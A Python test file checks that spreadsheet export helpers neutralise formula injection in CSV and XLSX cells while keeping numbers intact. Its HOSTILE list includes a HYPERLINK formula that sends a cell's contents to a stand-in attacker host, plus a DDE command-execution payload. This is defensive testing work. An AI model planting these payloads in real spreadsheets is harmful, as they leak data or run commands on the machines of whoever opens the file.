"""CSV and XLSX cells out of untrusted text: no formula survives, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from ioleval.spreadsheet import csv_cell, csv_cell_read, csv_text, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "=1+2",
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
]
# Text that is prefixed, and must still read back exactly (a quote before a trigger included).
TRICKY = ["'=1+2", "''=1+2", "'-", "-", "=", "@", "+", "-1.5"]
HARMLESS = ["", "plain", "1+2", " =1+2", "a;=1+2", "x\n=1+2", "é ʃ ŋ", "'", "''", "'abc", "#N/A"]


@pytest.mark.parametrize("text", HOSTILE + TRICKY)
def test_csv_cell_prefixes_formula_text_with_a_quote(text):
    written = csv_cell(text)
    assert written == "'" + text
    assert csv_cell_read(written) == text


@pytest.mark.parametrize("text", HARMLESS + ["''x", "'a=b"])
def test_csv_cell_leaves_other_text_alone(text):
    assert csv_cell(text) == text
    assert csv_cell_read(text) == text


@pytest.mark.parametrize("text", HOSTILE + TRICKY + HARMLESS)
def test_csv_cell_read_undoes_csv_cell_exactly(text):
    assert csv_cell_read(csv_cell(text)) == text
    # Twice over (an export of an import of an export) is still exact.
    assert csv_cell_read(csv_cell_read(csv_cell(csv_cell(text)))) == text


@pytest.mark.parametrize("number", [-1.5, -2, 0, 3, Decimal("-2.50"), True, None])
def test_csv_cell_leaves_non_text_alone(number):
    assert csv_cell(number) is number


def test_csv_text_quotes_text_and_leaves_numbers_bare():
    text = csv_text(
        ["name", "points", "delta", "comment"],
        [["=1+2", Decimal("-2.50"), -1.5, 'say "hi"; =1+2'], ["a", 1, None, ""]],
    )
    assert text.splitlines() == [
        '"name","points","delta","comment"',
        '"\'=1+2",-2.50,-1.5,"say ""hi""; =1+2"',
        '"a",1,"",""',
    ]
    rows = list(csv.reader(io.StringIO(text)))
    assert [csv_cell_read(v) for v in rows[1]] == ["=1+2", "-2.50", "-1.5", 'say "hi"; =1+2']


def test_csv_text_keeps_cells_with_tabs_and_line_breaks_whole():
    text = csv_text(["a", "b"], [["\r=1+2", "x\n=1+2"]])
    (header, row) = list(csv.reader(io.StringIO(text)))
    assert row == ["'\r=1+2", "x\n=1+2"]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_xlsx_stores_formula_text_as_text():
    values = HOSTILE + TRICKY + HARMLESS
    data = xlsx_bytes(["text"], [[v] for v in values], title="t")
    assert "<f>" not in _sheet_xml(data) and "<f " not in _sheet_xml(data)
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.value or "" for c in cells] == values
    for cell, value in zip(cells, values, strict=True):
        if value:
            assert cell.data_type == "s", value
    assert all(c.quotePrefix for c, v in zip(cells, values, strict=True) if v in HOSTILE)
    assert not any(c.quotePrefix for c, v in zip(cells, values, strict=True) if v == "plain")


def test_xlsx_keeps_numbers_numbers():
    data = xlsx_bytes(["a", "b", "c"], [[-1.5, -2, 0.25]], title="t")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    assert [c.value for c in cells] == [-1.5, -2, 0.25]
    assert {c.data_type for c in cells} == {"n"}


def test_xlsx_replaces_characters_xml_cannot_hold_instead_of_failing():
    data = xlsx_bytes(["text"], [["bell\x07 and \x01=x"]], title="t")
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet.cell(2, 1).value == "bell\ufffd and \ufffd=x"
